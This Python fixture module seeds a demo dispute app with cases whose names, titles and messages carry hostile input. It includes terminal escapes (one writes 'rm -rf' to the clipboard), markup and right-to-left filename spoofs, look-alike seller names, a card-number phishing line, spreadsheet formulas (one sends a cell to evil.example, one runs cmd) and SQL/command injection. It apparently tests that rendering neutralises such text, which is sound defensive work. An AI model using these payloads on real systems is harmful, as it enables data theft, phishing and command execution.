"""Text that wants to be more than text: the store keeps it as it is, and whatever shows it makes it harmless."""

from __future__ import annotations

from datetime import datetime

from models.vocabulary import Audience, PartyAct, Remedy
from seed.demo import goods, sellers
from seed.demo.script import Script
from seed.demo.staff import INES
from seed.demo.telling import Teller

CLEARS_THE_SCREEN = "\x1b[2J\x1b[1;1HNice Shop\x1b]0;owned\x07"
COPIES_AND_LINKS = "\x1b]52;c;cm0gLXJm\x07 \x1b]8;;https://evil.example\x1b\\click here\x1b]8;;\x1b\\ \x9b31mred\x9b0m"
MARKUP = "[bold red]URGENT[/] [@click=app.quit]refund[/] [link=https://evil.example]here[/link] [/nope] \\[x]"
READS_BACKWARDS = "receipt_\u202egnp.exe\u202c \u2066isolated\u2069 \u200fמחיר\u200e"
ZERO_WIDTH = "Pay\u200bPal\u2060 Sup\u00adport\ufeff \u200dTeam\U000e0041\U000e0042"
LOOK_ALIKE = "Кеstrеl Аudiо"
"""Cyrillic letters among Latin ones, like a seller who exists."""
STACKED = "Z" + "\u0334\u0351\u0343\u0363\u0366\u035b\u0300\u0301" * 12 + "algo Deals"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")'
FORMULAS = ("+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1")
LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 12
EMOJI = "👩🏽‍🔬👨‍👩‍👧‍👦 Family Shop 🇵🇱🏴󠁧󠁢󠁳󠁣󠁴󠁿 ﷽"
SQL = "Robert'); DROP TABLE dispute;-- %s {0} ${HOME} $(id)"
LINES = "first line\r\nsecond line\u2028third line\u0085fourth line\x0bfifth\x0csixth\tseventh"


def scripts(now: datetime, count: int) -> list[Script]:
    """The first `count` of them; each is believable as a case, so that it stands among the others."""
    tell = Teller(now)
    tell.skip(900)
    return [make(tell) for make in (
        _screen, _markup, _backwards, _zero_width, _formula, _long_word, _stacked, _queries, _lines,
    )[:count]]  # fmt: skip


def _screen(tell: Teller) -> Script:
    script = tell.begin(
        "US", "wrong", days=6, hours=2, good=goods.EARBUDS, seller_ref="s66601", seller_name=CLEARS_THE_SCREEN
    )
    return script.after(days=1).message(
        INES, Audience.SELLER, f"You wrote: {COPIES_AND_LINKS}. What is this supposed to mean?"
    )


def _markup(tell: Teller) -> Script:
    script = tell.begin(
        "GB", "poor", days=3, good=goods.JACKET, buyer_ref="bgb66602", buyer_name=MARKUP, item_title=MARKUP,
        remedy=Remedy.FULL_REFUND, requested_minor=None, description=f"{MARKUP}\n[on red]everything[/on red] is wrong",
    )  # fmt: skip
    return script.after(days=1).seller(PartyAct.REJECT, f"{MARKUP} We do not agree.")


def _backwards(tell: Teller) -> Script:
    return tell.begin(
        "IL", "delivered", days=5, hours=9, good=goods.TEA_SET, seller_ref="s66603", seller_name=READS_BACKWARDS,
        buyer_ref="bil66603", buyer_name=f"\u202e{READS_BACKWARDS}",
        description=f"ראו קובץ {READS_BACKWARDS}, לא קיבלתי דבר.",
    )  # fmt: skip


def _zero_width(tell: Teller) -> Script:
    script = tell.begin(
        "FR", "late", days=2, good=goods.LAMP, seller_ref="s66604", seller_name=ZERO_WIDTH, tags=("vip\u200b", "vip")
    )
    return script.after(hours=9).seller(
        PartyAct.REPLY, f"Bonjour, ici {ZERO_WIDTH}. Merci d'envoyer votre numéro de carte."
    )


def _formula(tell: Teller) -> Script:
    """In every cell that a table program might open."""
    return tell.begin(
        "BR", "late", days=8, good=goods.SHOES, ref="=1+2", order_ref=FORMULAS[0], seller_ref=FORMULAS[2],
        seller_name=FORMULA, buyer_ref=FORMULAS[1], buyer_name=FORMULAS[3], item_title=FORMULAS[4], tracking_no="@A1",
    )  # fmt: skip


def _long_word(tell: Teller) -> Script:
    script = tell.begin(
        "DE", "incomplete", days=9, good=goods.KNIVES, seller=sellers.BEST_DEAL, buyer_ref="bde66606",
        buyer_name=LONG_WORD[:400],
        ref=f"D-{'0' * 120}66606", description=f"Es fehlt das Messer aus der {LONG_WORD}. Bitte um Antwort.",
    )  # fmt: skip
    return script.after(days=2).seller(PartyAct.REPLY, LONG_WORD).after(hours=2).note(INES, LONG_WORD * 4)


def _stacked(tell: Teller) -> Script:
    return tell.begin(
        "PL", "wrong", days=5, hours=20, good=goods.BACKPACK, seller_ref="s66607", seller_name=STACKED,
        buyer_ref="bpl66607", buyer_name=EMOJI, item_title=f"{EMOJI} {STACKED}",
    )  # fmt: skip


def _queries(tell: Teller) -> Script:
    return tell.begin(
        "US", "faulty", days=4, good=goods.WATCH, seller_ref="s66608", seller_name=LOOK_ALIKE, buyer_ref="bus66608",
        buyer_name=SQL, ref="a:b::c", description=f"{SQL} is:overdue owner:none \" or ( -",
    )  # fmt: skip


def _lines(tell: Teller) -> Script:
    return tell.begin(
        "SG",
        "poor",
        days=6,
        hours=1,
        good=goods.SHOES,
        buyer_ref="bsg66609",
        buyer_name=LINES,
        ref="two\nlines",
        description=LINES,
    )
